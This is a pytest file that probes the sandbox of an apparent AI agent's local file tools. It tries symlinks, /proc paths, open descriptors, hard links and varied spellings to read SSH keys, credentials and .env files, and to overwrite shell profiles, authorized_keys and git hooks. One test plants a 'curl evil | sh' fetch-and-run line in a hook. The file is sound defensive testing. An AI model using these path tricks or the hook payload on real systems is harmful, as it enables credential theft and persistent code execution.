"""The local file tools hold the sandbox's boundary, tried as an attacker would.

Every file tool call is judged on what it opened, not on a name checked first: symlinks in the
workspace to hidden keys, `.env` files deep below, `/proc/self/root`, `/proc/self/fd`, hard
links, protected paths spelled several ways, the private /tmp. Each attack runs twice, with the
kernel's openat2 and with the walk used where the kernel has none. Harmless markers only: the
secret is a string, the profile a file in a throwaway home.
"""

from __future__ import annotations

import os
import shutil
import tempfile
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from cmdop_tui.config.settings import SandboxPolicy
from cmdop_tui.machines import local_rules
from cmdop_tui.machines.local import LocalMachine
from cmdop_tui.machines.local_fs import LocalFiles
from cmdop_tui.machines.sandbox import Sandbox, bubblewrap
from cmdop_tui.machines.sandbox_view import SandboxView

SECRET = "SECRET-MARKER-5d1e"
PROFILE = "# the original profile\n"
needs_bwrap = pytest.mark.skipif(bubblewrap() is None, reason="bubblewrap cannot run here")


@dataclass(frozen=True)
class World:
    home: Path
    work: Path
    view: SandboxView

    @property
    def files(self) -> LocalFiles:
        return LocalFiles(self.work, self.view)

    def untouched(self) -> bool:
        """The profile and the hidden key are as they were."""
        key = self.home / ".ssh" / "id_rsa"
        return (self.home / ".profile").read_text() == PROFILE and key.read_text() == f"{SECRET}\n"


def make_world(root: Path, private: tuple[tuple[Path, Path], ...] = ()) -> World:
    """A home with a key, cloud credentials and a profile; a workspace in it with `.env` files
    deep below and the paths the sandbox protects."""
    home = root / "home"
    work = home / "work"
    for relative, text in {
        ".ssh/id_rsa": SECRET,
        ".aws/credentials": SECRET,
        "work/notes.txt": "harmless notes",
        "work/a/b/c/d/e/.env": SECRET,
        "work/node_modules/pkg/.env.production": SECRET,
        "work/.env.example": "TOKEN=changeme",
        "work/.git/config": "[core]",
        "work/.git/hooks/pre-commit": "#!/bin/sh",
        "work/CMDOP.md": "the project's instructions",
        "work/.cmdop/skills/x/SKILL.md": "a skill",
        "work/.mcp.json": "{}",
        "work/.vscode/settings.json": "{}",
        "work/.envrc": "export A=1",
        "work/vendored/.git/config": "[core]",
    }.items():
        (home / relative).parent.mkdir(parents=True, exist_ok=True)
        (home / relative).write_text(f"{text}\n")
    (home / ".profile").write_text(PROFILE)
    (work / "sub").mkdir()
    view = SandboxView(
        True,
        writable=(work, *(real for _, real in private)),
        private=private,
        hidden=(home / ".ssh", home / ".aws"),
        exempt=tuple(real for _, real in private),
    )
    return World(home, work, view)


@pytest.fixture
def world(tmp_path: Path, opener: str) -> World:
    return make_world(tmp_path)


async def everything(files: LocalFiles, path: str) -> str:
    """What every reading tool gives for `path`: all of it, to look for the secret in."""
    got = [
        (await files.read_file(path)).text,
        repr(await files.read_bytes(path, max_bytes=1 << 20)),
        (await files.grep(".", path=path)).text,
        (await files.list_dir(path)).text,
        (await files.glob("**/*", cwd=path)).text,
    ]
    return "\n".join(got)


# --- reading what the sandbox hides --------------------------------------------------------


def plant_links(world: World) -> list[str]:
    """Symlinks in the workspace that lead to hidden things, each spelled another way."""
    home, work = world.home, world.work
    links = {
        "key-relative": "../.ssh/id_rsa",
        "key-absolute": str(home / ".ssh" / "id_rsa"),
        "key-chain": "key-relative",
        "ssh-dir": "../.ssh",
        "aws-dir": str(home / ".aws"),
        "deep-env": "a/b/c/d/e/.env",
        "env-dir": "a/b/c/d",
        "through-proc-root": f"/proc/self/root{home}/.ssh/id_rsa",
        "through-proc-cwd": f"/proc/self/cwd/{os.path.relpath(home / '.ssh' / 'id_rsa')}",
        "through-dev-fd": f"/dev/fd/../../../..{home}/.ssh/id_rsa",
    }
    for name, target in links.items():
        (work / name).symlink_to(target)
    return [
        *links,
        "ssh-dir/id_rsa",
        "aws-dir/credentials",
        "env-dir/e/.env",
        "sub/../key-relative",
        f"{home}/.ssh/id_rsa",
        f"{home}/.ssh",
        f"/proc/self/root{home}/.ssh/id_rsa",
        f"/proc/thread-self/root{home}/.ssh/id_rsa",
        f"/proc/{os.getpid()}/root{home}/.ssh/id_rsa",
        "node_modules/pkg/.env.production",
    ]


async def test_no_spelling_of_a_hidden_file_is_read(world: World) -> None:
    for path in plant_links(world):
        got = await everything(world.files, path)
        assert SECRET not in got, path
    tree = await everything(world.files, ".")  # the whole workspace, links and all
    assert SECRET not in tree and "harmless notes" in tree
    assert SECRET not in await everything(world.files, str(world.home))


async def test_an_open_descriptor_of_the_secret_is_no_way_in(world: World) -> None:
    held = os.open(world.home / ".ssh" / "id_rsa", os.O_RDONLY)  # the app itself has it open
    folder = os.open(world.home / ".ssh", os.O_RDONLY | os.O_DIRECTORY)
    try:
        (world.work / "fd-link").symlink_to(f"/proc/self/fd/{held}")
        for path in (f"/proc/self/fd/{held}", f"/dev/fd/{held}", "fd-link", f"/proc/self/fd/{folder}/id_rsa"):
            assert SECRET not in await everything(world.files, path), path
    finally:
        os.close(held)
        os.close(folder)


async def test_the_apps_own_process_is_not_read(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_SERVICE_TOKEN", SECRET)
    (world.work / "environ").symlink_to("/proc/self/environ")
    for path in ("/proc/self/environ", f"/proc/{os.getpid()}/environ", "/proc/thread-self/environ", "environ"):
        result = await world.files.read_file(path)
        assert result.is_error and "hidden by the sandbox" in result.text, path
    assert SECRET not in (await world.files.grep("MARKER", path="/proc/self")).text
    assert "MemTotal" in (await world.files.read_file("/proc/meminfo")).text  # the machine's own files stay


async def test_a_hard_link_to_a_hidden_file_is_not_read(world: World) -> None:
    try:
        os.link(world.home / ".ssh" / "id_rsa", world.work / "innocent.txt")
    except OSError as exc:
        pytest.skip(f"no hard link here: {exc}")
    assert SECRET not in await everything(world.files, "innocent.txt")
    assert SECRET not in (await world.files.grep("MARKER", path=".")).text
    edited = await world.files.edit_file("innocent.txt", SECRET, "x")
    assert edited.is_error and "hidden by the sandbox" in edited.text
    # A write replaces the name, never the shared inode: the key keeps its content.
    assert not (await world.files.write_file("innocent.txt", "new")).is_error
    assert world.untouched() and (world.work / "innocent.txt").read_text() == "new"


async def test_the_rules_are_off_only_when_the_sandbox_is(world: World) -> None:
    (world.work / "key").symlink_to("../.ssh/id_rsa")
    bare = LocalFiles(world.work, SandboxView())
    assert SECRET in (await bare.read_file("key")).text  # no sandbox: no rule (and no pretence)


# --- names ----------------------------------------------------------------------------------


async def test_listings_leave_hidden_names_out_and_say_how_many(world: World) -> None:
    (world.work / "keylink").symlink_to(world.home / ".ssh" / "id_rsa")
    (world.work / "sub" / "id_ed25519").write_text("a key by its name\n")
    listing = (await world.files.list_dir(".")).text
    assert "keylink" not in listing and "notes.txt" in listing and ".env.example" in listing
    assert "[1 entry hidden by the sandbox is left out]" in listing
    home = (await world.files.list_dir(str(world.home))).text
    assert ".ssh" not in home and ".aws" not in home and "work/" in home
    assert "[2 entries hidden by the sandbox are left out]" in home
    for pattern in ("**/*", "**/.env*", "**/id_*", "*", "a/*/*/*/*/*", "**/.env"):
        found = (await world.files.glob(pattern, cwd=".")).text
        for name in ("keylink", "/.env\n", "e/.env", "id_ed25519", ".env.production", "id_rsa"):
            assert name not in found + "\n", (pattern, found)
    everywhere = (await world.files.glob("**/*", cwd=str(world.home))).text
    assert ".ssh" not in everywhere and "credentials" not in everywhere and ".env.example" in everywhere
    assert "hidden by the sandbox" in everywhere
    searched = (await world.files.grep("key|SECRET|TOKEN", path=".")).text
    assert "id_ed25519" not in searched and ".env:" not in searched and SECRET not in searched
    assert ".env.example:1:TOKEN=changeme" in searched and "hidden by the sandbox" in searched


# --- writes ---------------------------------------------------------------------------------


def plant_write_links(world: World) -> list[str]:
    """Ways to name ~/.profile from the workspace."""
    home, work = world.home, world.work
    (work / "profile-link").symlink_to("../.profile")
    (work / "profile-absolute").symlink_to(home / ".profile")
    (work / "home-dir").symlink_to(home)
    (work / "dangling").symlink_to("profile-chain")
    (work / "profile-chain").symlink_to("profile-link")
    (work / "proc-root").symlink_to(f"/proc/self/root{home}/.profile")
    return [
        "profile-link",
        "profile-absolute",
        "home-dir/.profile",
        "dangling",
        "proc-root",
        "../.profile",
        "sub/../../.profile",
        f"{home}/.profile",
        f"/proc/self/root{home}/.profile",
        f"/proc/self/cwd/{os.path.relpath(home / '.profile')}",
        "home-dir/.ssh/authorized_keys",
        "home-dir/.bashrc",
    ]


async def test_no_spelling_of_a_path_outside_the_workspace_is_written(world: World) -> None:
    for path in plant_write_links(world):
        written = await world.files.write_file(path, "echo pwned\n")
        edited = await world.files.edit_file(path, "original", "pwned")
        assert written.is_error and edited.is_error, (path, written, edited)
        assert world.untouched(), path
    assert not (world.home / ".bashrc").exists() and not (world.home / ".ssh" / "authorized_keys").exists()
    refused = await world.files.write_file("profile-link", "x")
    assert refused.sandbox_denied is not None and refused.sandbox_denied.needs == f"write {world.home}/.profile"
    assert f"profile-link (which is {world.home}/.profile)" in refused.text


async def test_a_symlink_in_the_workspace_is_still_written_through(world: World) -> None:
    (world.work / "real.txt").write_text("old\n")
    (world.work / "alias").symlink_to("real.txt")
    (world.work / "to-new").symlink_to("sub/made/new.txt")  # dangling: its target is created
    assert not (await world.files.write_file("alias", "new\n")).is_error
    assert not (await world.files.edit_file("alias", "new", "newer")).is_error
    assert not (await world.files.write_file("to-new", "made\n")).is_error
    assert (world.work / "alias").is_symlink() and (world.work / "real.txt").read_text() == "newer\n"
    assert (world.work / "sub" / "made" / "new.txt").read_text() == "made\n"


PROTECTED = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".git/hooks/post-checkout",  # a new hook
    "CMDOP.md",
    "AGENTS.md",
    ".cmdop/skills/x/SKILL.md",
    ".cmdop/skills/new/SKILL.md",
    ".mcp.json",
    ".vscode/settings.json",
    ".vscode/tasks.json",
    ".envrc",
    "sub/../.git/config",
    "./.git//config",
    "vendored/.git/config",
    "git-link/config",
    "innocent.md",
]


async def test_protected_paths_are_refused_however_they_are_named(world: World) -> None:
    (world.work / "git-link").symlink_to(".git")
    (world.work / "innocent.md").symlink_to("CMDOP.md")
    before = snapshot(world.work)
    for path in PROTECTED:
        written = await world.files.write_file(path, "pwned\n")
        assert written.is_error and written.sandbox_denied is not None, (path, written)
        assert "protected by the sandbox" in written.text, path
        edited = await world.files.edit_file(path, "a", "pwned")
        assert edited.is_error, (path, edited)
    assert snapshot(world.work) == before  # nothing written, no folder made, no temp file left


async def test_a_hard_link_to_a_protected_file_writes_only_itself(world: World) -> None:
    hook = world.work / ".git" / "hooks" / "pre-commit"
    try:
        os.link(hook, world.work / "hook-link")
    except OSError as exc:
        pytest.skip(f"no hard link here: {exc}")
    assert not (await world.files.edit_file("hook-link", "#!/bin/sh", "#!/bin/sh\ncurl evil | sh")).is_error
    assert not (await world.files.write_file("hook-link", "curl evil | sh\n")).is_error
    assert hook.read_text() == "#!/bin/sh\n" and (world.work / "hook-link").read_text() == "curl evil | sh\n"


async def test_a_person_may_let_a_protected_write_through(world: World) -> None:
    allowed = await world.files.write_file(".git/hooks/pre-commit", "#!/bin/sh\nmake test\n", sandboxed=False)
    assert not allowed.is_error and "make test" in (world.work / ".git/hooks/pre-commit").read_text()
    edited = await world.files.edit_file("CMDOP.md", "instructions", "rules", sandboxed=False)
    assert not edited.is_error and (world.work / "CMDOP.md").read_text() == "the project's rules\n"


async def test_hidden_paths_are_refused_as_writes_and_not_offered_outside(world: World) -> None:
    (world.work / "env-link").symlink_to("a/b/c/d/e/.env")
    for path in (".env", "a/b/c/d/e/.env", "env-link", "sub/.env.local", "../.ssh/id_rsa"):
        written = await world.files.write_file(path, "x")
        assert written.is_error and "hidden by the sandbox" in written.text and written.sandbox_denied is None, path
    assert (world.work / "a/b/c/d/e/.env").read_text() == f"{SECRET}\n" and not (world.work / ".env").exists()


def snapshot(root: Path) -> dict[str, str]:
    """Every path under `root` with its content (or link text), to compare before and after."""
    seen: dict[str, str] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder, name)
            relative = str(path.relative_to(root))
            seen[relative] = os.readlink(path) if path.is_symlink() else "" if path.is_dir() else path.read_text()
    return seen


# --- the private /tmp ----------------------------------------------------------------------------


@pytest.fixture
def outside_tmp(opener: str) -> Iterator[Path]:
    """A folder out of /tmp: there, /tmp can be mapped to a private folder without moving the rest."""
    root = Path(tempfile.mkdtemp(prefix="cmdop-boundary-", dir="/var/tmp"))
    try:
        yield root
    finally:
        shutil.rmtree(root)


async def test_the_private_tmp_is_where_commands_see_it_and_cannot_be_left(outside_tmp: Path) -> None:
    private = outside_tmp / "private-tmp"
    private.mkdir()
    world = make_world(outside_tmp, private=((Path("/tmp"), private),))
    probe = f"cmdop-private-probe-{uuid.uuid4().hex}"
    assert not (await world.files.write_file(f"/tmp/{probe}/x", "inside\n")).is_error
    assert (private / probe / "x").read_text() == "inside\n" and not Path("/tmp", probe).exists()
    assert (await world.files.read_file(f"/tmp/{probe}/x")).text == "     1\tinside"
    assert probe in (await world.files.list_dir("/tmp")).text
    assert f"{probe}/x" in (await world.files.glob("**/*", cwd="/tmp")).text
    (private / "key").symlink_to(world.home / ".ssh" / "id_rsa")
    (private / "up").symlink_to("../home/.ssh/id_rsa")
    (private / "profile").symlink_to(world.home / ".profile")
    (private / "notes").symlink_to(world.work / "notes.txt")
    for path in ("/tmp/key", "/tmp/up", "/tmp/../home/.ssh/id_rsa", f"/tmp/{probe}/../../home/.ssh/id_rsa"):
        assert SECRET not in await everything(world.files, path), path
    assert "leads outside" in (await world.files.read_file("/tmp/notes")).text  # out of /tmp, even when harmless
    for path in ("/tmp/profile", f"/tmp/{probe}/../profile"):
        assert (await world.files.write_file(path, "pwned\n")).is_error, path
    assert world.untouched()


# --- through the machine, with the sandbox's own view ----------------------------------------------


@needs_bwrap
async def test_the_machine_holds_the_same_boundary(world: World) -> None:
    machine = LocalMachine(world.work, sandbox=Sandbox(SandboxPolicy(), bubblewrap(), home=world.home))
    (world.work / "key").symlink_to("../.ssh/id_rsa")
    (world.work / "profile").symlink_to("../.profile")
    assert SECRET not in await everything(machine.files, "key")
    assert SECRET not in await everything(machine.files, "a/b/c/d/e/.env")
    assert (await machine.write_file("profile", "pwned\n")).sandbox_denied is not None
    assert (await machine.edit_file(".git/config", "core", "pwned")).sandbox_denied is not None
    assert world.untouched() and (world.work / ".git/config").read_text() == "[core]\n"
    assert not (await machine.write_file("notes.txt", "fine\n")).is_error


# --- the view narrowed to a folder answers as the whole one ---------------------------------------


def test_a_narrowed_view_answers_as_the_whole_one(tmp_path: Path) -> None:
    data = tmp_path / "home" / ".local" / "share" / "app"
    view = SandboxView(
        True,
        writable=(tmp_path / "home" / "work", data / "private"),
        hidden=(tmp_path / "home" / ".ssh", data, data / "private" / "sealed", tmp_path / "home" / "work" / "x.key"),
        exempt=(data / "private",),
    )
    names = [".ssh", ".sshx", ".ssh-not", ".local", "work", "x.key", "x.keys", ".env", "app", "private", "sealed"]
    folders = [tmp_path, tmp_path / "home", data.parent, data, data / "private", data / "private" / "sealed"]
    folders += [tmp_path / "home" / "work", tmp_path / "home" / ".ssh", tmp_path / "home" / ".sshx"]
    rules = local_rules.FileRules(view)
    for folder in folders:
        for name in names:
            for is_dir in (True, False):
                real = folder / name
                assert rules.hides_entry(real, is_dir) == view.hides(real, is_file=not is_dir), (real, is_dir)
        assert rules.hides_entry(folder, True) == view.hides(folder, is_file=False), folder
